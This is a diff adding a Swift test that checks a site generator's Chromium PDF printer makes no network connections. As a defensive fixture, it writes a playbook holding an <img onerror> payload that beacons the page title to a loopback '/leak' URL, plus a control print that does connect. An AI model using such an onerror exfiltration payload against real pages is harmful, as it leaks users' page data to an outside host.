@@ -145,7 +145,55 @@ import Testing
         #expect(run.stderr.contains("build failed: 1 error, "))
         #expect(run.stderr.hasSuffix("; \(root)/out left unchanged\n"))
         #expect(Fixtures.snapshot(root + "/out") == before)
-        let leftovers = try FileManager.default.contentsOfDirectory(atPath: root).filter { $0.hasPrefix(".out") }
+        let leftovers = try FileManager.default.contentsOfDirectory(atPath: root).filter {
+            $0.hasPrefix(".out") && $0 != ".out.rapport-lock"
+        }
         #expect(leftovers.isEmpty, "\(leftovers)")
+    }
+
+    /// Issue 14, point 5: the printer fetched a playbook's remote image and
+    /// ran an `onerror` that sent page data out. Printed with the real
+    /// Chromium (installed by the test command), a packet holding both makes
+    /// no connection to a listener on loopback, while the same page printed
+    /// by Chromium without Rapport's switches does connect (the control).
+    @Test func thePDFPrinterReachesNoNetwork() throws {
+        guard let chromium = PacketPDF.locateBrowser() else {
+            Issue.record("no Chromium: the test command installs it (script/bootstrap-portal)")
+            return
+        }
+        let listener = try LoopbackListener()
+        let site = Fixtures.copy("basic-site")
+        let root = (site as NSString).deletingLastPathComponent
+        defer { try? FileManager.default.removeItem(atPath: root) }
+        let remote = "http://127.0.0.1:\(listener.port)"
+        Fixtures.write(
+            Fixtures.read(site + "/site.yaml") + "markdown:\n  raw_html: true\n", to: site + "/site.yaml")
+        Fixtures.write(
+            "---\ntitle: Everyone\nwhen: true\n---\n![chart](\(remote)/chart.png)\n\n"
+                + "<img src=\"\(remote)/x.png\" onerror=\"new Image().src='\(remote)/leak?'+document.title\">\n",
+            to: site + "/playbooks/everyone.md")
+        let run = try Binary.run(
+            ["build", "--site", site, "--output", root + "/out", "--pdf", "--as-of", "2026-06-01"])
+        #expect(run.status == 0, "\(run.stderr)")
+        let pdfs = (FileManager.default.enumerator(atPath: root + "/out")?.allObjects as? [String] ?? [])
+            .filter { $0.hasSuffix(".pdf") }
+        #expect(!pdfs.isEmpty)
+        let packet = root + "/out/" + pdfs.sorted()[0].dropLast(4) + ".html"
+        #expect(Fixtures.read(packet).contains("\(remote)/chart.png"), "the payload must reach the packet")
+        #expect(!Fixtures.read(packet).contains("onerror"))
+        #expect(listener.connections == 0, "the printer connected \(listener.connections) times")
+        // The control: Chromium left to itself fetches the image.
+        let control = Process()
+        control.executableURL = URL(fileURLWithPath: chromium)
+        control.arguments = [
+            "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir=\(root)/profile",
+            "--print-to-pdf=\(root)/control.pdf", URL(fileURLWithPath: packet).absoluteString,
+        ]
+        control.standardOutput = FileHandle.nullDevice
+        control.standardError = FileHandle.nullDevice
+        try control.run()
+        control.waitUntilExit()
+        listener.stop()
+        #expect(listener.connections >= 1, "the control print never connected: the test proves nothing")
     }
 }
